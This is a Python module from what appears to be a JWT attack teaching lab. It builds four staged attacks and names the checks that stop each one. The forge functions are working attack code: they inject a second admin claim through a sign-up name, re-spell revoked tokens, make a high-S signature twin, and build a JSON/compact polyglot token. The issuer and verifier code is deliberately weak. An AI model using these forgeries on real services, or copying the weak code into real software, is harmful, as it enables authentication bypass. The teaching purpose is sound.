"""Two readers, two answers: what is not understood, what appears twice, what can be spelled otherwise.

Everything weak in here is weak on purpose.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping
from functools import partial
from typing import Any

from jwtlab.attacks import material, pyjwt
from jwtlab.attacks.model import Attack, Stage, Variant
from jwtlab.checks import Check, Policy, Refusal
from jwtlab.errors import ClaimRefused, ReplayedToken
from jwtlab.jose import base64url, jws, jwt
from jwtlab.jose.algorithms import split_signature
from jwtlab.jose.curves import CURVES

Goal = Mapping[str, Any]
ES256 = material.verifier()


# crit-ignored

LIMIT = "https://as.example/only-on-device"


def _stage_crit(goal: Goal) -> Stage:
    taken = material.token(header={"crit": [LIMIT], LIMIT: "alice-laptop"}, **goal)
    return Stage(material.token(), {"taken": taken}, ES256, jwt.STANDARD.without("critical-understood"))


CRIT = Attack(
    id="crit-ignored",
    title="A condition that nobody read",
    knows="a stolen token that carries a condition",
    story="The issuer binds an administrator's token to one device, and marks the condition as critical: whoever does "
    "not understand it must refuse. The service has never heard of crit, and Mallory's device is as good as any.",
    spec="RFC 7515 §4.1.11",
    cves=("CVE-2026-32597", "CVE-2025-59420"),
    forge=material.present,
    variants=(
        Variant(
            name="unknown",
            title="an unknown critical parameter",
            stage=_stage_crit,
            stopped_by=("critical-understood",),
        ),
    ),
    code='claims = jwt.decode(token, KEY, algorithms=["ES256"])   # PyJWT before 2.12 never read crit',
    pyjwt=pyjwt.ask,
)


# duplicate-claim


def careless_issuer(name: str) -> str:
    """⚠ The issuer's sign-up form: it glues the JSON together from text and signs it."""
    usual = json.dumps(material.claims(), separators=(",", ":"))
    payload = f'{usual[:-1]},"name":"{name}"}}'
    return jws.sign(payload.encode(), material.key(), alg="ES256", header={"typ": "JWT"})


def forge_duplicate(goal: Goal, *, sign_up: Callable[[str], str]) -> str:
    """Sign up under a name that ends the text early and goes on with further claims."""
    more = json.dumps(dict(goal), separators=(",", ":"))[1:-1]
    return sign_up(f'Mallory",{more},"note":"')


def first_wins(payload: bytes) -> dict[str, Any]:
    """JSON as some readers take it: of two members of one name the first counts."""

    def members(pairs: list[tuple[str, Any]]) -> dict[str, Any]:
        return dict(reversed(pairs))

    content: dict[str, Any] = json.loads(payload, object_pairs_hook=members)
    return content


def _gateway(case: jwt.Case) -> str:
    if first_wins(case.payload).get("admin") is True:
        raise Refusal("administrators do not come in this way", claim="admin", error=ClaimRefused)
    return "the gateway reads admin = false"


GATEWAY = Check(
    id="gateway",
    title="⚠ The gateway in front lets it through",
    spec="",
    run=_gateway,
    group="Payload",
    purpose="It reads JSON differently.",
)


def _stage_duplicate(goal: Goal) -> Stage:
    victim = jwt.STANDARD.without("claims-unique").adding(GATEWAY)
    return Stage(material.token(), {"sign_up": careless_issuer}, ES256, victim)


DUPLICATE = Attack(
    id="duplicate-claim",
    title="One claim, two values",
    knows="that the issuer puts a name into the JSON as it stands",
    story="Mallory's display name closes the text early and adds a second admin claim. "
    "The gateway's reader takes the first value and lets her through; the service's reader takes the last.",
    spec="RFC 7519 §4",
    cves=(),
    forge=forge_duplicate,
    variants=(
        Variant(
            name="two-readers",
            title="the first wins, and the last wins",
            stage=_stage_duplicate,
            stopped_by=("claims-unique",),
        ),
    ),
    code='payload = \'{"admin": false, "name": "%s"}\' % name     # the issuer\n'
    'claims = jwt.decode(token, KEY, algorithms=["ES256"])   # json.loads: the last one counts',
    pyjwt=pyjwt.ask,
)


# malleable-token


def forge_spelling(goal: Goal, *, revoked: str, spelling: str) -> str:
    """The same token in another spelling.

    Args:
        goal: not used: the revoked token already says what Mallory wants.
        revoked: a token that stands on a deny list.
        spelling: ``"padding"``, ``"foreign"``, ``"last-character"`` or ``"high-s"``.
    """
    if spelling == "padding":
        return revoked + "=" * (-len(revoked.rpartition(".")[2]) % 4)
    if spelling == "foreign":
        return revoked + "!!!!"
    if spelling == "last-character":
        value = base64url.ALPHABET.index(revoked[-1])
        return revoked[:-1] + base64url.ALPHABET[value ^ 1]
    text, _, signature = revoked.rpartition(".")
    r, s = split_signature(base64url.decode(signature))
    return material.seal(text, r.to_bytes(32) + (CURVES["P-256"].n - s).to_bytes(32))


def _denied(text: str) -> Check:
    def run(case: jws.Case) -> str:
        if case.reading.text == text:
            raise Refusal("this token was revoked", error=ReplayedToken)
        return "⚠ this very text is not on the list"

    return Check(
        id="deny-list",
        title="⚠ Its text is not on the deny list",
        spec="",
        run=run,
        group="Time",
        purpose="Compares spellings.",
    )


def _stage_spelling(spelling: str, weak: str, goal: Goal) -> Stage:
    revoked = material.token(**{**goal, "jti": "revoked-1"})
    victim = jwt.STANDARD.without(weak).adding(_denied(revoked))
    seen = frozenset({"revoked-1"}) if weak == "not-replayed" else None
    return Stage(material.token(), {"revoked": revoked, "spelling": spelling}, ES256, victim, seen)


def _spelling(name: str, title: str, weak: str) -> Variant:
    return Variant(name=name, title=title, stage=partial(_stage_spelling, name, weak), stopped_by=(weak,))


MALLEABLE = Attack(
    id="malleable-token",
    title="A revoked token in another spelling",
    knows="a token that was revoked",
    story="The service keeps revoked tokens on a list, by their text. Mallory spells hers differently: to a forgiving "
    "reader the bytes are the same, or (for the high-S twin) the signature is another that is just as valid.",
    spec="RFC 7515 §2, RFC 4648 §3.5; RFC 7519 §4.1.7",
    cves=(),
    forge=forge_spelling,
    variants=(
        _spelling("padding", "with the padding that JWS leaves off", "base64url-strict"),
        _spelling("foreign", "with characters that are no base64url", "base64url-strict"),
        _spelling("last-character", "with other unused bits at the end", "base64url-strict"),
        _spelling("high-s", "with n - s in place of s", "not-replayed"),
    ),
    code="if token in REVOKED:          # a list of texts; list jti instead\n    abort(401)\n"
    'claims = jwt.decode(token, KEY, algorithms=["ES256"])',
    pyjwt=pyjwt.ask,
)


# polyglot


def forge_polyglot(goal: Goal, *, original: str) -> str:
    """The true token as JSON (RFC 7515 §7.2.2), and the first member's name begins like a compact one."""
    header, payload, signature = original.split(".")
    fake = material.signing_input(original, goal).partition(".")[2]
    return (
        f'{{"  {header}.{fake}.":"","protected":"{header}","payload":"{payload}","signature":"{signature}"}}'
    )


def _json_signature(case: jws.Case) -> bool:
    """The signature of whatever the text is as JSON; of the compact form, if it is no JSON."""
    try:
        flat = json.loads(case.reading.text)
    except ValueError:
        data, signature = case.reading.signing_input, case.signature
    else:
        data = f"{flat['protected']}.{flat['payload']}".encode()
        signature = base64url.decode(flat["signature"])
    return case.algorithm.verify(case.key, data, signature)


def _stage_polyglot(goal: Goal) -> Stage:
    good = material.token()
    victim: Policy = material.weak_signature(
        "the signature matches, in either serialization", _json_signature, "base64url-strict"
    )
    return Stage(good, {"original": good}, ES256, victim)


POLYGLOT = Attack(
    id="polyglot",
    title="Two tokens in one text",
    knows="one token, such as their own",
    story="Mallory writes her true token as JSON and hides a forged one in the name of its first member. "
    "One library verifies the JSON; the other cuts the text at its dots and reads the forged claims.",
    spec="RFC 7515 §7; RFC 8725bis (draft) §2.13, §3.14",
    cves=("CVE-2022-39227",),
    forge=forge_polyglot,
    variants=(
        Variant(
            name="json-and-compact",
            title="JSON to one reader, compact to the other",
            stage=_stage_polyglot,
            stopped_by=("base64url-strict", "signature-valid"),
        ),
    ),
    code="jws.deserialize(token, key)              # reads JSON too\n"
    'header, claims, _ = token.split(".")     # reads something else',
    pyjwt=pyjwt.ask,
)
